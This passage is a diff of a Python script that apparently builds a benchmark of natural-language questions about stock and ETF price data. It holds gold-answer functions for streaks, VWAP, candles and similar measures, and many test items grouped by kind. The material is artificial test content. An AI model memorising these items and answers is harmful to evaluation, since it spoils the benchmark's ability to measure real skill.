+    check(same(x, y), f'correlation depends on first session: {x} {y}')
+    return first_row(x)
+
+
+def g_streak(s, d1, d2, direction, min_len=3):
+    sessions_gap_check(s, d1, d2)
+    rs = rets(s, d1, d2, True)
     runs = []
+    cur = []
     for d, r in rs:
-        if (r > 0) if up else (r < 0):
+        if (r > 0 if direction == 'up' else r < 0):
             cur.append(d)
         else:
-            if cur: runs.append(cur)
+            if cur:
+                runs.append(cur)
             cur = []
-    if cur: runs.append(cur)
+    if cur:
+        runs.append(cur)
     runs.sort(key=len, reverse=True)
-    if len(runs) > 1 and len(runs[0]) == len(runs[1]):
-        PROBLEMS.append("streak tie %s" % s)
+    check(len(runs[0]) >= min_len, 'streak too short')
+    check(len(runs) == 1 or len(runs[0]) > len(runs[1]), 'longest streak not unique')
     best = runs[0]
-    # flat days must not decide: check flat day adjacent to best run or within 1 of length
-    flats = [d for d, r in rs if r == 0]
-    if flats:
-        alt = []; cur = []
-        for d, r in rs:
-            if ((r >= 0) if up else (r <= 0)):
-                cur.append(d)
-            else:
-                if cur: alt.append(cur)
-                cur = []
-        if cur: alt.append(cur)
-        if max(len(x) for x in alt) != len(best):
-            PROBLEMS.append("flat decides streak %s" % s)
-    if best[-1] == B[s][win(s, a, b)[-1]][0] and ix(s)[best[-1]] + 1 < len(B[s]) and ret_i(s, ix(s)[best[-1]] + 1) > 0 and up:
-        PROBLEMS.append("streak runs past end %s" % s)
-    return [[len(best), best[0], best[-1]]]
+    check(best[0] != rs[0][0] and best[-1] != rs[-1][0], 'streak touches window edge')
+    return first_row(len(best), best[0], best[-1])
 
-def mins(s, a, b, lo_incl=True, hi_incl=True):
-    """minutes between NY stamps a and b"""
+
+def regular(bars):
+    return [b for b in bars if '09:30' <= b[0][11:] <= '15:59']
+
+
+def vwap(bars):
+    check(bars and sum(b[5] for b in bars) > 0, 'no volume for vwap')
+    return sum(b[4] * b[5] for b in bars) / sum(b[5] for b in bars)
+
+
+def g_vwap_day(s, d):
+    bars = [b for b in M[s] if b[0][:10] == d]
+    check(len(bars) >= 10, 'too few minutes')
+    v = vwap(bars)
+    check(abs(vwap(regular(bars)) / v - 1) < 0.001, 'day VWAP depends on extended hours')
+    return first_row(v)
+
+
+def g_vwap_window(s, d, t1, t2, both_ways=False):
+    bars = [b for b in M[s] if d + ' ' + t1 <= b[0] <= d + ' ' + t2]
+    check(len(bars) >= 5, 'too few minutes in window')
+    v = vwap(bars)
+    if both_ways:
+        ex = [b for b in bars if b[0] != d + ' ' + t2]
+        check(same(v, vwap(ex)), 'window VWAP depends on the end minute')
+    return first_row(v)
+
+
+def g_minute_rows(s, d, t1, t2, fields, n=None):
+    bars = [b for b in M[s] if d + ' ' + t1 <= b[0] <= d + ' ' + t2]
+    check(bars, 'no minute bars')
+    if n is not None:
+        check(len(bars) == n, f'expected {n} minute bars, got {len(bars)}')
+    return gold([[b[0]] + [fv(b, f) for f in fields] for b in bars], 'set', True)
+
+
+def g_candle(s, d1, d2, fields=('open', 'high', 'low', 'close', 'volume')):
+    w = window(s, d1, d2, 2)
+    c = {'open': w[0][1], 'high': max(b[2] for b in w), 'low': min(b[3] for b in w), 'close': w[-1][4],
+         'volume': sum(b[5] for b in w)}
+    return first_row(*[c[f] for f in fields])
+
+
+def g_dist(s, d):
+    i = idx(s, d)
+    peak = max(b[4] for b in D[s][:i + 1])
+    v = D[s][i][4] / peak - 1
+    check(distinct(v, 0.0), 'at the high')
+    return first_row(d, v)
+
+
+def month(y, m):
+    last = (dt.date(y + (m == 12), m % 12 + 1, 1) - dt.timedelta(days=1)).day
+    return (f'{y}-{m:02d}-01', f'{y}-{m:02d}-{last:02d}')
+
+
+def quarter(y, q):
+    return (month(y, 3 * q - 2)[0], month(y, 3 * q)[1])
+
+
+def year(y):
+    return (f'{y}-01-01', f'{y}-12-31')
+
+
+def week_of(d):
+    x = dt.date.fromisoformat(d)
+    mon = x - dt.timedelta(days=x.weekday())
+    return (mon.isoformat(), (mon + dt.timedelta(days=4)).isoformat())
+
+
+# ---------------------------------------------------------------- the questions
+Q = []
+
+
+def A(kind, question, fn, *args, **kw):
+    Q.append(('a', kind, question, (fn, args, kw)))
+
+
+def R(kind, question):
+    Q.append(('r', kind, question, None))
+
+
+# latest rows
+A('latest-rows', "show me FXY's last 5 closing prices", g_latest, 'FXY', 5, ['close'])
+A('latest-rows', 'dbb volume, most recent 3 sessions', g_latest, 'DBB', 3, ['volume'])
+A('latest-rows', 'What were the open, high, low and close of the India ETF (INDA) on each of its three most recent trading days?',
+  g_latest, 'INDA', 3, ['open', 'high', 'low', 'close'])
+A('latest-rows', "Could you pull the yen trust's daily highs and lows for the latest 7 sessions?", g_latest, 'FXY', 7, ['high', 'low'])
+A('latest-rows', 'Pull the 5 most recent closes for IBM as of 2014-10-17.', g_latest, 'IBM', 5, ['close'], asof='2014-10-17')
+A('latest-rows', 'nvda close + volume for the last 3 trading days up to and including March 3rd, 2015',
+  g_latest, 'NVDA', 3, ['close', 'volume'], asof='2015-03-03')
+A('latest-rows', 'For Tesla, list the final four sessions of 2013 with their closing prices.', g_latest, 'TSLA', 4, ['close'],
+  within=year(2013))
+A('latest-rows', 'what did amazon close at on each of its last 3 trading days in june 2009', g_latest, 'AMZN', 3, ['close'],
+  within=month(2009, 6))
+
+# day value
+A('day-value', "What was AMD's closing price on 8/23/2017?", g_day, 'AMD', '2017-08-23', 'close')
+A('day-value', 'Big Blue volume on 19/10/2012', g_day, 'IBM', '2012-10-19', 'volume')
+A('day-value', 'how high did netflix trade on March 12th, 2015?', g_day, 'NFLX', '2015-03-12', 'high')
+A('day-value', 'JPM opening price, 2009-03-10', g_day, 'JPM', '2009-03-10', 'open')
+A('day-value', "What was Intel's intraday range (high minus low) on Nov 2, 2011?", g_day, 'INTC', '2011-11-02', 'range')
+A('day-value', "FXY close yesterday?", g_day, 'FXY', '2025-07-07', 'close')
+A('day-value', 'Total daily volume in DBB on 2024-11-06, please.', g_day, 'DBB', '2024-11-06', 'volume')
+A('day-value', "india etf's low on may 8 2025", g_day, 'INDA', '2025-05-08', 'low')
+
+# date-range rows
+A('date-range-rows', 'KO closes from 2013-05-06 through 2013-05-10', g_rows, 'KO', '2013-05-06', '2013-05-10', ['close'], n=5)
+A('date-range-rows', "I'd like Microsoft's open and close for every session from 9/14/2016 to 9/20/2016.",
+  g_rows, 'MSFT', '2016-09-14', '2016-09-20', ['open', 'close'], n=5)
+A('date-range-rows', 'Facebook daily high and low for the week of July 21, 2014', g_rows, 'FB', *week_of('2014-07-21'), ['high', 'low'], n=5)
+A('date-range-rows', 'amzn daily volumes 2008-10-06 thru 2008-10-10', g_rows, 'AMZN', '2008-10-06', '2008-10-10', ['volume'], n=5)
+A('date-range-rows', 'Tesla OHLC for each day from 14 Nov 2016 to 18 Nov 2016', g_rows, 'TSLA', '2016-11-14', '2016-11-18',
+  ['open', 'high', 'low', 'close'], n=5)
+A('date-range-rows', 'DBB closing prices June 2 to June 6, 2025', g_rows, 'DBB', '2025-06-02', '2025-06-06', ['close'], n=5)
+A('date-range-rows', 'List INDA volume for each session in the first week of March 2025.', g_rows, 'INDA', '2025-03-03', '2025-03-07',
+  ['volume'], n=5)
+A('date-range-rows', 'fxy highs 2024-08-01 through 2024-08-09', g_rows, 'FXY', '2024-08-01', '2024-08-09', ['high'], n=7)
+
+# window aggregate
+A('window-aggregate', "hey quick one: what was Apple's average closing price in Q3 2012?", g_agg, 'AAPL', *quarter(2012, 3), 'close', 'avg')
+A('window-aggregate', 'total googl volume during march 2014', g_agg, 'GOOGL', *month(2014, 3), 'volume', 'sum')
+A('window-aggregate', 'Highest close JPMorgan reached in the second half of 2011?', g_agg, 'JPM', '2011-07-01', '2011-12-31', 'close', 'max')
+A('window-aggregate', 'mean daily volume for nvidia, jan 2016', g_agg, 'NVDA', *month(2016, 1), 'volume', 'avg')
+A('window-aggregate', "What's the lowest price IBM traded at between 2015-08-17 and 2015-08-28?", g_agg, 'IBM', '2015-08-17', '2015-08-28',
+  'low', 'min', robust_ends=True)
+A('window-aggregate', 'avg close of FXY lsat month', g_agg, 'FXY', *month(2025, 6), 'close', 'avg')
+A('window-aggregate', 'How many DBB shares have traded in total so far this year?', g_agg, 'DBB', '2025-01-01', TODAY, 'volume', 'sum')
+A('window-aggregate', "Facebook's average daily trading range (high − low) in May 2014", g_agg, 'FB', *month(2014, 5), 'range', 'avg')
+
+# extreme day
+A('extreme-day', 'On which day in 2015 did Netflix have its heaviest trading volume?', g_extreme, 'NFLX', *year(2015), 'volume', 'max')
+A('extreme-day', "Which session had Coca-Cola's lowest close in the first half of 2009?", g_extreme, 'KO', '2009-01-01', '2009-06-30', 'close', 'min')
+A('extreme-day', 'Busiest day for FXY by volume in 2024?', g_extreme, 'FXY', *year(2024), 'volume', 'max')
+A('extreme-day', "AMZN: date of the widest daily high-low range in October 2014?", g_extreme, 'AMZN', *month(2014, 10), 'range', 'max')
+A('extreme-day', "Intel's quietest day by volume during 2016 - which date was it?", g_extreme, 'INTC', *year(2016), 'volume', 'min')
+A('extreme-day', 'which day last quarter had the highest DBB close?', g_extreme, 'DBB', *quarter(2025, 2), 'close', 'max')
+A('extreme-day', 'What date did Tesla post its highest close of 2014?', g_extreme, 'TSLA', *year(2014), 'close', 'max')
+A('extreme-day', 'What day did INDA hit its lowest low in March 2025?', g_extreme, 'INDA', *month(2025, 3), 'low', 'min')
+
+# 52-week
+A('52-week', 'AAPL 52-week high as of 2013-06-28', g_52w, 'AAPL', '2013-06-28', 'high')
+A('52-week', "What was JPM's 52 wk low on 17 March 2009?", g_52w, 'JPM', '2009-03-17', 'low')
+A('52-week', 'Give me the 52-week range for Tesla on 2016-02-10.', g_52w, 'TSLA', '2016-02-10', 'range')
+A('52-week', "Coca-Cola's 52-week high on Dec 30, 2010?", g_52w, 'KO', '2010-12-30', 'high')
+A('52-week', 'fb 52w low as of 9/27/2013', g_52w, 'FB', '2013-09-27', 'low')
+A('52-week', 'AMD 52-week low, as of the close on August 14, 2015', g_52w, 'AMD', '2015-08-14', 'low')
+A('52-week', "What's the 52-week high for DBB today?", g_52w, 'DBB', TODAY, 'high')
+A('52-week', 'FXY 52 week range as of 2024-12-31', g_52w, 'FXY', '2024-12-31', 'range')
+
+# change between
+A('change-between', 'How much did Nvidia gain from the 2016-01-04 close to the 2016-12-30 close?', g_change, 'NVDA', '2016-01-04', '2016-12-30')
+A('change-between', '% change in IBM between June 1, 2012 and June 1, 2013', g_change, 'IBM', '2012-06-01', '2013-06-01', sessions=False)
+A('change-between', 'price change for Google from 3/14/2008 to 9/15/2008, as a percentage', g_change, 'GOOGL', '2008-03-14', '2008-09-15')
+A('change-between', "Amazon's return between 1 Jan 2015 and 31 Dec 2015?", g_change, 'AMZN', '2015-01-01', '2015-12-31', sessions=False)
+A('change-between', 'how much did msft move from Jul 15th 2010 to Oct 15th 2010', g_change, 'MSFT', '2010-07-15', '2010-10-15')
+A('change-between', 'FXY percent change from the 2024 year-end close to the latest close', g_change, 'FXY', '2024-12-31', TODAY)
+A('change-between', 'How much has DBB changed since the close on April 8 2025?', g_change, 'DBB', '2025-04-08', TODAY)
+A('change-between', 'INDA change between the 2025-02-14 close and the 2025-05-15 close', g_change, 'INDA', '2025-02-14', '2025-05-15')
+
+# daily return or gap
+A('daily-return-or-gap', "What was Tesla's daily return on 2017-08-03?", g_ret, 'TSLA', '2017-08-03')
+A('daily-return-or-gap', 'Did JPM gap up or down at the open on 1/22/2009, and by how much?', g_gap, 'JPM', '2009-01-22')
+A('daily-return-or-gap', 'apple one-day % move on 10/24/2008', g_ret, 'AAPL', '2008-10-24')
+A('daily-return-or-gap', 'What was the overnight gap for Netflix on 2016-07-19?', g_gap, 'NFLX', '2016-07-19')
+A('daily-return-or-gap', "Coke's return on the session of 23 Sept 2008", g_ret, 'KO', '2008-09-23')
+A('daily-return-or-gap', "By how much did AMD open above or below the prior close on January 20, 2017?", g_gap, 'AMD', '2017-01-20')
+A('daily-return-or-gap', 'fxy return today', g_ret, 'FXY', TODAY)
+A('daily-return-or-gap', "DBB's opening gap on 2024-12-19", g_gap, 'DBB', '2024-12-19')
+A('daily-return-or-gap', "What was the India ETF's daily % change on March 21, 2025?", g_ret, 'INDA', '2025-03-21')
+
+# biggest move day
+A('biggest-move-day', 'Biggest one-day drop for Facebook in 2016?', g_bigmove, 'FB', *year(2016), 'down')
+A('biggest-move-day', "Which day in 2014 had Intel's largest daily gain?", g_bigmove, 'INTC', *year(2014), 'up')
+A('biggest-move-day', "what was coke's biggest single-day move, up or down, during 2013", g_bigmove, 'KO', *year(2013), 'abs')
+A('biggest-move-day', 'amzn largest daily gain in Q1 2009', g_bigmove, 'AMZN', *quarter(2009, 1), 'up')
+A('biggest-move-day', 'What was the worst daily return for GOOGL over 2010, and when?', g_bigmove, 'GOOGL', *year(2010), 'down')
+A('biggest-move-day', 'FXY: biggest single-day rise in 2024', g_bigmove, 'FXY', *year(2024), 'up')
+A('biggest-move-day', 'worst day for DBB this year?', g_bigmove, 'DBB', '2025-01-01', TODAY, 'down')
+A('biggest-move-day', 'Largest daily decline for the India ETF from March through May 2025?', g_bigmove, 'INDA', '2025-03-01', '2025-05-31', 'down')
+
+# cross-sectional ranking
+A('cross-sectional-ranking', 'Which 3 stocks had the highest volume on 2015-07-17?', g_rank, '2015-07-17', 'volume', 3, True, expect_universe=13)
+A('cross-sectional-ranking', 'top 4 performers on 2016-11-14 by daily return', g_rank, '2016-11-14', 'return', 4, True, expect_universe=13)
+A('cross-sectional-ranking', 'Which stock had the worst return on Oct 15, 2008?', g_rank, '2008-10-15', 'return', 1, False, singular=True, expect_universe=11)
+A('cross-sectional-ranking', 'What were the 5 highest-priced stocks by closing price on 2012-12-31?', g_rank, '2012-12-31', 'close', 5, True, expect_universe=13)
+A('cross-sectional-ranking', 'which two names gapped up the most at the open on 2017-02-01?', g_rank, '2017-02-01', 'gap', 2, True, expect_universe=13)
+A('cross-sectional-ranking', 'Lowest 3 daily returns on Sept 1 2015 — which tickers?', g_rank, '2015-09-01', 'return', 3, False, expect_universe=13)
+A('cross-sectional-ranking', 'Which 3 tickers had the biggest intraday range (high minus low, in dollars) on 2014-03-20?', g_rank, '2014-03-20', 'range', 3, True, expect_universe=13)
+A('cross-sectional-ranking', 'Of the ETFs, which had the best return on 2025-04-09?', g_rank, '2025-04-09', 'return', 1, True, singular=True, expect_universe=3)
+A('cross-sectional-ranking', 'rank INDA, FXY and DBB by daily return on 2025-05-12, best to worst', g_rank, '2025-05-12', 'return', 3, True, expect_universe=3)
+
+# gainers / losers
+A('gainers-losers', 'Top 3 gainers from the 2016-12-30 close to the 2017-06-30 close', g_gainers, '2016-12-30', '2017-06-30', 3, True, expect_universe=13)
+A('gainers-losers', 'Which stock lost the most between the close of 2015-12-31 and the close of 2016-02-11?', g_gainers, '2015-12-31', '2016-02-11', 1, False, singular=True, expect_universe=13)
+A('gainers-losers', 'Which 4 stocks fell the most from the 2008-09-12 close to the 2008-10-10 close?', g_gainers, '2008-09-12', '2008-10-10', 4, False, expect_universe=11)
+A('gainers-losers', 'best performing stock of 2013, measured from the 12/31/2012 close to the 12/31/2013 close?', g_gainers, '2012-12-31', '2013-12-31', 1, True, singular=True, expect_universe=13)
+A('gainers-losers', 'bottom 2 performers, Mar 31 2014 close to Jun 30 2014 close', g_gainers, '2014-03-31', '2014-06-30', 2, False, expect_universe=13)
+A('gainers-losers', 'Name the five biggest gainers from the close on 2011-08-08 to the close on 2011-12-30.', g_gainers, '2011-08-08', '2011-12-30', 5, True, expect_universe=12)
+A('gainers-losers', 'Across the ETFs, which one rose the most from the 2025-03-03 close to the 2025-06-02 close?', g_gainers, '2025-03-03', '2025-06-02', 1, True, singular=True, expect_universe=3)
+A('gainers-losers', 'Rank the three ETFs by performance from the 2023-08-01 close to the 2023-09-29 close, best first.', g_gainers, '2023-08-01', '2023-09-29', 3, True, expect_universe=3)
+
+
+def named(syms, fn, mode, higher=True):
+    return g_named([[s, fn(s)] for s in syms], mode, higher)
+
+
+A('named-comparison', 'Who had the better 2014, Apple or Microsoft? Use the 2013-12-31 close to the 2014-12-31 close.', named,
+  ['AAPL', 'MSFT'], lambda s: change(s, '2013-12-31', '2014-12-31'), 'which')
+A('named-comparison', 'Compare the average daily volume of AMD and NVDA in Q4 2016.', named,
+  ['AMD', 'NVDA'], lambda s: period_value(s, *quarter(2016, 4), 'avg_volume'), 'compare')
+A('named-comparison', 'Which was more volatile in 2014, KO or JPM?', named, ['KO', 'JPM'],
+  lambda s: g_vol(s, *year(2014))['rows'][0][0], 'which')
+A('named-comparison', 'netflix vs amazon, return from the 2015-01-02 close to the 2015-12-31 close', named,
+  ['NFLX', 'AMZN'], lambda s: change(s, '2015-01-02', '2015-12-31'), 'compare')
+A('named-comparison', 'Did Tesla or Facebook close at a higher price on 2013-11-29?', named, ['TSLA', 'FB'],
+  lambda s: bar(s, '2013-11-29')[4], 'which')
+A('named-comparison', 'Which traded more shares on 2010-05-06, Intel or Microsoft??', named, ['INTC', 'MSFT'],
+  lambda s: bar(s, '2010-05-06')[5], 'which')
+A('named-comparison', 'FXY or DBB: which had the larger percentage gain from the 2025-04-30 close to the 2025-06-30 close?', named,
+  ['FXY', 'DBB'], lambda s: change(s, '2025-04-30', '2025-06-30'), 'which')
+A('named-comparison', 'compare INDA and DBB average daily volume in April 2025', named, ['INDA', 'DBB'],
+  lambda s: period_value(s, *month(2025, 4), 'avg_volume'), 'compare')
+A('named-comparison', 'Big Blue or Intel - who did better from the 2011-06-30 close to the 2011-09-30 close?', named,
+  ['IBM', 'INTC'], lambda s: change(s, '2011-06-30', '2011-09-30'), 'which')
+
+# grouped by period
+A('grouped-by-period', 'Monthly average close for KO in 2014', g_grouped, 'KO', [month(2014, m) for m in range(1, 13)], 'avg_close', 12)
+A('grouped-by-period', 'IBM total volume per quarter in 2015?', g_grouped, 'IBM', [quarter(2015, q) for q in range(1, 5)], 'sum_volume', 4)
+A('grouped-by-period', "Apple's yearly highs for each year from 2010 through 2014", g_grouped, 'AAPL', [year(y) for y in range(2010, 2015)], 'max_high', 5)
+A('grouped-by-period', 'jpm month-end closes for H1 2012', g_grouped, 'JPM', [month(2012, m) for m in range(1, 7)], 'last_close', 6)
+A('grouped-by-period', 'Can you break down NVDA average daily volume by month for January to June 2017?', g_grouped, 'NVDA',
+  [month(2017, m) for m in range(1, 7)], 'avg_volume', 6)
+A('grouped-by-period', 'FXY month-end closes, Jan through Jun 2025', g_grouped, 'FXY', [month(2025, m) for m in range(1, 7)], 'last_close', 6)
+A('grouped-by-period', 'AMD average daily volume by quarter for 2014', g_grouped, 'AMD', [quarter(2014, q) for q in range(1, 5)], 'avg_volume', 4)
+A('grouped-by-period', 'What was the highest price INDA reached in each month from March to May 2025?', g_grouped, 'INDA',
+  [month(2025, m) for m in range(3, 6)], 'max_high', 3)
+
+# period over period
+A('period-over-period', "How did Apple's average daily volume in Q2 2015 compare with Q1 2015?", g_pop, 'AAPL', quarter(2015, 2), quarter(2015, 1), 'avg_volume')
+A('period-over-period', 'tsla avg close feb 2017 vs jan 2017, % diff', g_pop, 'TSLA', month(2017, 2), month(2017, 1), 'avg_close')
+A('period-over-period', 'MSFT average daily volume: 2016 versus 2015', g_pop, 'MSFT', year(2016), year(2015), 'avg_volume')
+A('period-over-period', "Compare JPMorgan's average closing price in H2 2013 to H1 2013.", g_pop, 'JPM', ('2013-07-01', '2013-12-31'),
+  ('2013-01-01', '2013-06-30'), 'avg_close')
+A('period-over-period', "Did Amazon's average daily high-low range widen in December 2014 compared with November 2014? By how much?", g_pop,
+  'AMZN', month(2014, 12), month(2014, 11), 'avg_range')
+A('period-over-period', 'FXY average volume last month vs the month before', g_pop, 'FXY', month(2025, 6), month(2025, 5), 'avg_volume')
+A('period-over-period', 'intel avg close Q4 2013 vs Q3 2013', g_pop, 'INTC', quarter(2013, 4), quarter(2013, 3), 'avg_close')
+A('period-over-period', "INDA's average daily volume in April 2025 relative to March 2025?", g_pop, 'INDA', month(2025, 4), month(2025, 3), 'avg_volume')
+
+# moving averages: values
+A('moving-average', '50-day moving average of IBM on 2014-06-30', g_ma, 'IBM', '2014-06-30', 50)
+A('moving-average', '20 day SMA for netflix as of 8/15/2016?', g_ma, 'NFLX', '2016-08-15', 20)
+A('moving-average', "What was Coke's 200-day moving average on Oct 1, 2009?", g_ma, 'KO', '2009-10-01', 200)
+A('moving-average', "What's FXY's 10-day moving average today?", g_ma, 'FXY', TODAY, 10)
+A('moving-average', "Microsoft's 30-session simple moving average of closes on Oct 30, 2015", g_ma, 'MSFT', '2015-10-30', 30)
+# moving averages: crossovers
+A('moving-average', "When was AAPL's most recent golden cross before 2016-09-01?", g_cross, 'AAPL', 50, 200, 'above', hi='2016-09-01', pick='last')
+A('moving-average', 'date of the first death cross for JPM in 2011', g_cross, 'JPM', 50, 200, 'below', lo='2011-01-01', hi='2011-12-31',
+  strict_lo=False, strict_hi=False, pick='first')
+A('moving-average', "When did Tesla's close first move above its 50-day average after 2016-03-01?", g_cross, 'TSLA', 1, 50, 'above',
+  lo='2016-03-01', pick='first')
+A('moving-average', "when did DBB's 20-day MA first cross above its 50-day MA in 2025?", g_cross, 'DBB', 20, 50, 'above',
+  lo='2025-01-01', hi=TODAY, strict_lo=False, strict_hi=False, pick='first')
+A('moving-average', 'FXY: most recent date the 10-day MA crossed below the 30-day MA?', g_cross, 'FXY', 10, 30, 'below', hi=TODAY,
+  strict_hi=False, pick='last')
+
+# threshold count
+A('threshold-count', 'How many days did Tesla close above $300 in 2017?', g_count, 'TSLA', *year(2017), 'close_above', 300)
+A('threshold-count', 'Number of sessions in 2008 where JPM fell more than 5%', g_count, 'JPM', *year(2008), 'ret_below', -0.05)
+A('threshold-count', 'count of days AMD moved more than 4% either way in Q1 2016', g_count, 'AMD', *quarter(2016, 1), 'absret_above', 0.04)
+A('threshold-count', "In 2015, on how many trading days did Apple's volume exceed 100 million shares?", g_count, 'AAPL', *year(2015), 'volume_above', 100e6)
+A('threshold-count', 'How many sessions in 2012 did Coke finish below $31?', g_count, 'KO', *year(2012), 'close_below', 31)
+A('threshold-count', 'how many days this year has DBB closed above $19', g_count, 'DBB', '2025-01-01', TODAY, 'close_above', 19)
+A('threshold-count', 'How many sessions in 2024 did FXY drop by more than 1%?', g_count, 'FXY', *year(2024), 'ret_below', -0.01)
+A('threshold-count', 'INDA: number of up days in April 2025', g_count, 'INDA', *month(2025, 4), 'up', 0.0)
+
+# cross-stock count
+A('cross-stock-count', 'How many of the stocks closed higher on 2016-03-17?', g_crosscount, '2016-03-17', 'up', None, expect_universe=13)
+A('cross-stock-count', 'On 2011-08-08, how many tickers dropped more than 5%?', g_crosscount, '2011-08-08', 'ret_below', -0.05, expect_universe=12)
+A('cross-stock-count', 'how many stocks closed above $100 on 2017-06-30', g_crosscount, '2017-06-30', 'close_above', 100, expect_universe=13)
+A('cross-stock-count', 'Number of stocks that gapped up on 2009-03-10?', g_crosscount, '2009-03-10', 'gap_up', None, expect_universe=11)
+A('cross-stock-count', 'Please report the number of stocks whose volume exceeded 50 million shares on 2013-10-16.', g_crosscount, '2013-10-16', 'volume_above', 50e6, expect_universe=13)
+A('cross-stock-count', 'count the names that finished the day up on Jan 3rd, 2017', g_crosscount, '2017-01-03', 'up', None, expect_universe=13)
+A('cross-stock-count', 'how many of the ETFs closed down on 2025-06-13?', g_crosscount, '2025-06-13', 'down', None, expect_universe=3)
+A('cross-stock-count', 'On December 1st 2014 how many stocks fell by over 2%?', g_crosscount, '2014-12-01', 'ret_below', -0.02, expect_universe=13)
+
+# volatility
+A('volatility', "How volatile was the iPhone maker's stock in 2014 (std dev of daily returns)?", g_vol, 'AAPL', *year(2014))
+A('volatility', 'std dev of daily returns for GOOGL, Q2 2016', g_vol, 'GOOGL', *quarter(2016, 2))
+A('volatility', 'How volatile was Netflix in the first half of 2016?', g_vol, 'NFLX', '2016-01-01', '2016-06-30')
+A('volatility', 'Intel daily-return standard deviaton from Jan 2010 to Jun 2010', g_vol, 'INTC', '2010-01-01', '2010-06-30')
+A('volatility', "What's the volatility of JPM over 2016?", g_vol, 'JPM', *year(2016))
+A('volatility', 'FXY volatility last quarter', g_vol, 'FXY', *quarter(2025, 2))
+A('volatility', 'KO daily return std dev in H2 2014', g_vol, 'KO', '2014-07-01', '2014-12-31')
+A('volatility', 'volatility of INDA daily returns in Q2 2025', g_vol, 'INDA', *quarter(2025, 2))
+
+# correlation
+A('correlation', 'Correlation between AAPL and MSFT daily returns in the second half of 2015', g_corr, 'AAPL', 'MSFT', '2015-07-01', '2015-12-31')
+A('correlation', 'How correlated were JPM and KO in 2008?', g_corr, 'JPM', 'KO', *year(2008))
+A('correlation', 'nvda vs amd return correlation for 2010', g_corr, 'NVDA', 'AMD', *year(2010))
+A('correlation', 'corr of Amazon and Netflix daily retuns over calendar 2014', g_corr, 'AMZN', 'NFLX', *year(2014))
+A('correlation', 'Pearson correlation of Intel and IBM daily moves, H2 2012', g_corr, 'INTC', 'IBM', '2012-07-01', '2012-12-31')
+A('correlation', 'correlation between FXY and DBB in April 2025', g_corr, 'FXY', 'DBB', *month(2025, 4))
+A('correlation', "What was the correlation between Google's and Facebook's daily returns in 2015?", g_corr, 'GOOGL', 'FB', *year(2015))
+A('correlation', 'Over the whole history you have, how correlated are the daily returns of FXY and DBB?', g_corr, 'FXY', 'DBB', '2023-07-10', TODAY)
+
+# streaks
+A('streak', 'Longest winning streak for KO in 2011?', g_streak, 'KO', *year(2011), 'up')
+A('streak', "What was Amazon's longest run of consecutive down days in 2015?", g_streak, 'AMZN', *year(2015), 'down')
+A('streak', 'most consecutive sesions IBM closed lower, 2015', g_streak, 'IBM', *year(2015), 'down')
+A('streak', 'msft longest up streak in 2017', g_streak, 'MSFT', *year(2017), 'up')
+A('streak', "What's the longest string of consecutive up days Tesla had in 2016, and when was it?", g_streak, 'TSLA', *year(2016), 'up')
+A('streak', 'DBB longest losing streak in 2024', g_streak, 'DBB', *year(2024), 'down')
+A('streak', 'longest stretch of up days for FXY this year?', g_streak, 'FXY', '2025-01-01', TODAY, 'up')
+A('streak', 'INDA: most consecutive up sessions in March 2025', g_streak, 'INDA', *month(2025, 3), 'up')
+
+# VWAP and minute bars
+A('vwap-minute', "What was FXY's VWAP on 2024-08-05?", g_vwap_day, 'FXY', '2024-08-05')
+A('vwap-minute', 'VWAP for DBB on 2025-04-07', g_vwap_day, 'DBB', '2025-04-07')
+A('vwap-minute', 'INDA volume-weighted average price on 2025-05-12', g_vwap_day, 'INDA', '2025-05-12')
+A('vwap-minute', 'fxy vwap today', g_vwap_day, 'FXY', TODAY)
+A('vwap-minute', 'VWAP of INDA from 10:00 to 11:00 New York time on 2025-03-17, both minutes inclusive', g_vwap_window, 'INDA', '2025-03-17', '10:00', '11:00')
+A('vwap-minute', 'DBB VWAP over the first 30 minutes of the regular session on 2024-04-08', g_vwap_window, 'DBB', '2024-04-08', '09:30', '09:59')
+A('vwap-minute', "FXY's VWAP from 2:00 pm through 3:30 pm ET on 2025-06-18", g_vwap_window, 'FXY', '2025-06-18', '14:00', '15:30')
+A('vwap-minute', "Show me DBB's 1-minute bars (OHLCV) from 2:31 to 2:36 pm ET on 2024-05-15, inclusive.", g_minute_rows, 'DBB', '2024-05-15',
+  '14:31', '14:36', ['open', 'high', 'low', 'close', 'volume'], n=6)
+A('vwap-minute', 'INDA minute closes 9:30 through 9:34 am on 2025-04-01', g_minute_rows, 'INDA', '2025-04-01', '09:30', '09:34', ['close'], n=5)
+A('vwap-minute', 'per-minute volume for FXY, 3:55 through 3:59 pm ET on 2024-09-18', g_minute_rows, 'FXY', '2024-09-18', '15:55', '15:59', ['volume'], n=5)
+
+# period candle
+A('period-candle', "Give me Apple's monthly candle for March 2017: open, high, low, close and volume.", g_candle, 'AAPL', *month(2017, 3))
+A('period-candle', 'weekly OHLCV for nvidia, week of 2016-11-07', g_candle, 'NVDA', *week_of('2016-11-07'))
+A('period-candle', 'Q3 2009 candle for JPM (OHLC + volume)', g_candle, 'JPM', *quarter(2009, 3))
+A('period-candle', "Amazon's open, high, low and close for the full year 2010", g_candle, 'AMZN', *year(2010), fields=('open', 'high', 'low', 'close'))
+A('period-candle', 'Microsoft open/high/low/close/volume for the week of Sept 18, 2017', g_candle, 'MSFT', *week_of('2017-09-18'))
+A('period-candle', "DBB's OHLCV for last month", g_candle, 'DBB', *month(2025, 6))
+A('period-candle', 'GOOGL candle for Q4 2015 - open, high, low, close, volume', g_candle, 'GOOGL', *quarter(2015, 4))
+A('period-candle', 'INDA weekly bar (open/high/low/close/volume) for the week of 2025-04-07', g_candle, 'INDA', *week_of('2025-04-07'))
+
+# distance from high
+A('distance-from-high', 'How far was Netflix below its all-time high close on 2016-07-19?', g_dist, 'NFLX', '2016-07-19')
+A('distance-from-high', 'On 2009-03-09, how far below its record closing high was JPM, in percent?', g_dist, 'JPM', '2009-03-09')
+A('distance-from-high', "Intel's distance from its all-time high close as of 2012-12-31", g_dist, 'INTC', '2012-12-31')
+A('distance-from-high', 'by how much did AAPL trail its peak close as of 2013-04-19?', g_dist, 'AAPL', '2013-04-19')
+A('distance-from-high', "coke's % off its all-time closing high on 2011-10-03", g_dist, 'KO', '2011-10-03')
+A('distance-from-high', 'How far is FXY from its all-time high close right now?', g_dist, 'FXY', TODAY)
+A('distance-from-high', 'MSFT drawdown from its highest close to date, as of 2012-11-15', g_dist, 'MSFT', '2012-11-15')
+A('distance-from-high', 'How far below its all-time peak close was INDA on 2025-06-13?', g_dist, 'INDA', '2025-06-13')
+
+
+# coverage
+def g_first(s):
+    return first_row(D[s][0][0])
+
+
+def g_last(s):
+    return first_row(D[s][-1][0])
+
